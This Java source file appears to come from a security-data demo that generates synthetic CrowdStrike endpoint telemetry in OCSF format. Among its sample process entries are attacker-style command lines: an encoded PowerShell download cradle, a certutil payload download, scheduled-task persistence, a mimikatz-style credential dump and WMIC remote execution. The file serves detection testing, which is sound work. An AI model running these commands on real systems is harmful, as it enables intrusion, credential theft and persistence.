package io.securitylake.subscriber.demo;

import java.util.List;

/**
 * Endpoint vocabulary shared by the two CrowdStrike sources: hosts, binaries, command lines and
 * file hashes, filled into the OCSF {@code device} and {@code process} objects. A binary keeps
 * the same hashes across events (real fleets run the same files); dropped payloads get fresh ones.
 */
final class FalconTelemetry {

    static final String FILE = "file{path, name, type_id:int, size:long, hashes[{algorithm_id:int, algorithm, value}]}";
    static final String PROCESS = "{pid:int, uid, name, cmd_line, created_time:long, " + FILE + ", "
            + "user{name, uid, type_id:int, domain}, parent_process{pid:int, uid, name, cmd_line, file{path, name}}}, ";
    static final String DEVICE = "device{hostname, uid, instance_uid, ip, mac, domain, type_id:int, "
            + "os{name, type, type_id:int, version}, region}, ";

    /**
     * path, parent path, command line ({u} user, {h} hex, {ip} address). The binaries before {@link #FIRST_SUSPICIOUS}
     * are an ordinary fleet's: no SigmaHQ process rule is written for their command lines.
     */
    static final String[][] BINARIES = {
            {"C:\\Windows\\System32\\svchost.exe", "C:\\Windows\\System32\\services.exe", "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule"},
            {"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", "C:\\Windows\\explorer.exe",
                    "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --type=renderer --lang=en-US --device-scale-factor=1 --num-raster-threads=4 --enable-main-frame-before-activation --renderer-client-id={h} --field-trial-handle=1912,i,{h},262144 /prefetch:1"},
            {"/usr/bin/python3.11", "/usr/lib/systemd/systemd", "/usr/bin/python3.11 /opt/app/worker.py --queue orders-{h} --concurrency 8 --log-level INFO --metrics-port 9102"},
            {"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "C:\\Windows\\explorer.exe",
                    "powershell.exe -NoProfile -File C:\\ProgramData\\Scripts\\inventory-{h}.ps1 -Verbose -OutputPath \\\\fs01\\reports$\\inventory"},
            {"/bin/bash", "/usr/sbin/sshd", "bash /opt/app/bin/rotate-logs.sh --keep 14 --tag {h}"},
            {"C:\\Windows\\System32\\cmd.exe", "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
                    "C:\\Windows\\system32\\cmd.exe /c whoami /all & net group \"Domain Admins\" /domain & nltest /dclist:corp.example.com"},
            {"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "C:\\Windows\\System32\\cmd.exe",
                    "powershell.exe -nop -w hidden -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8A{h}"},
            {"C:\\Windows\\System32\\rundll32.exe", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                    "rundll32.exe C:\\Users\\{u}\\AppData\\Local\\Temp\\{h}.dll,DllRegisterServer"},
            {"C:\\Windows\\System32\\certutil.exe", "C:\\Windows\\System32\\cmd.exe",
                    "certutil.exe -urlcache -split -f http://{ip}/update/{h}.bin C:\\Users\\Public\\Libraries\\{h}.exe"},
            {"C:\\Windows\\System32\\schtasks.exe", "C:\\Windows\\System32\\cmd.exe",
                    "schtasks /create /sc minute /mo 15 /tn \"MicrosoftEdgeUpdateTaskMachine{h}\" /tr \"C:\\Users\\Public\\Libraries\\{h}.exe\" /ru SYSTEM /f"},
            {"C:\\Users\\{u}\\Downloads\\m64.exe", "C:\\Windows\\System32\\cmd.exe",
                    "C:\\Users\\{u}\\Downloads\\m64.exe \"privilege::debug\" \"sekurlsa::logonpasswords\" \"lsadump::sam\" exit"},
            {"C:\\Windows\\System32\\wbem\\WMIC.exe", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                    "wmic /node:{ip} /user:CORP\\{u} process call create \"cmd.exe /c C:\\Users\\Public\\Libraries\\{h}.exe\""}};
    /** Index of the first binary that only shows up in detections. */
    static final int FIRST_SUSPICIOUS = 5;

    private final DemoValues values;

    FalconTelemetry(DemoValues values) {
        this.values = values;
    }

    /** The Falcon agent id (aid) of a host: stable, as a sensor keeps its id. */
    static String agentId(String hostname) {
        long base = DemoValues.mix(hostname.hashCode());
        return DemoValues.hex16(base) + DemoValues.hex16(DemoValues.mix(base));
    }

    void device(OcsfRecord event, String hostname, String region) {
        boolean linux = hostname.startsWith("k8s") || hostname.startsWith("batch") || hostname.startsWith("etl");
        event.set("device.hostname", hostname).set("device.uid", agentId(hostname))
                .set("device.instance_uid", "i-0" + DemoValues.hex16(DemoValues.mix(hostname.hashCode() + 7)).substring(0, 16))
                .set("device.ip", values.privateIp()).set("device.domain", linux ? null : "CORP")
                .set("device.mac", values.hex(2) + "-" + values.hex(2) + "-" + values.hex(2) + "-" + values.hex(2) + "-" + values.hex(2) + "-" + values.hex(2))
                .set("device.type_id", hostname.startsWith("vdi") ? 2 : 1).set("device.region", region)
                .set("device.os.name", linux ? "Amazon Linux" : "Windows Server 2022")
                .set("device.os.type", linux ? "Linux" : "Windows").set("device.os.type_id", linux ? 200 : 100)
                .set("device.os.version", linux ? "2023" : "10.0.20348");
    }

    /** Fills the process object at {@code prefix} with binary {@code binary}; returns its file name. */
    String process(OcsfRecord event, String prefix, String[] binary, String user, long time) {
        String hex = values.hex(8);
        String shortUser = user.substring(user.lastIndexOf('\\') + 1);
        String path = binary[0].replace("{u}", shortUser);
        String cmdLine = binary[2].replace("{u}", shortUser).replace("{h}", hex).replace("{ip}", values.privateIp());
        String parent = binary[1];
        event.set(prefix + ".pid", values.nextInt(300, 40_000)).set(prefix + ".uid", values.hex(16))
                .set(prefix + ".name", name(path)).set(prefix + ".cmd_line", cmdLine)
                .set(prefix + ".created_time", time - values.nextInt(5, 5_000))
                .set(prefix + ".file.path", path).set(prefix + ".file.name", name(path))
                .set(prefix + ".file.type_id", 1).set(prefix + ".file.size", (long) (Math.abs(path.hashCode()) % 4_000_000 + 20_000))
                .set(prefix + ".file.hashes", hashes(event, prefix + ".file.hashes", binary[0].contains("{u}") ? values.hex(16) : path))
                .set(prefix + ".user.name", user).set(prefix + ".user.uid", "S-1-5-21-" + Math.abs(user.hashCode()))
                .set(prefix + ".user.type_id", 1)
                .set(prefix + ".parent_process.pid", values.nextInt(4, 30_000))
                .set(prefix + ".parent_process.uid", values.hex(16))
                .set(prefix + ".parent_process.name", name(parent))
                .set(prefix + ".parent_process.file.path", parent).set(prefix + ".parent_process.file.name", name(parent));
        return name(path);
    }

    private List<org.apache.avro.generic.GenericData.Record> hashes(OcsfRecord event, String path, String identity) {
        long base = DemoValues.mix(identity.hashCode());
        var sha256 = event.item(path);
        sha256.put("algorithm_id", 3);
        sha256.put("algorithm", "SHA-256");
        sha256.put("value", DemoValues.hex16(base) + DemoValues.hex16(DemoValues.mix(base + 1))
                + DemoValues.hex16(DemoValues.mix(base + 2)) + DemoValues.hex16(DemoValues.mix(base + 3)));
        var md5 = event.item(path);
        md5.put("algorithm_id", 1);
        md5.put("algorithm", "MD5");
        md5.put("value", DemoValues.hex16(DemoValues.mix(base + 4)) + DemoValues.hex16(DemoValues.mix(base + 5)));
        return List.of(sha256, md5);
    }

    static String name(String path) {
        return path.substring(Math.max(path.lastIndexOf('\\'), path.lastIndexOf('/')) + 1);
    }
}
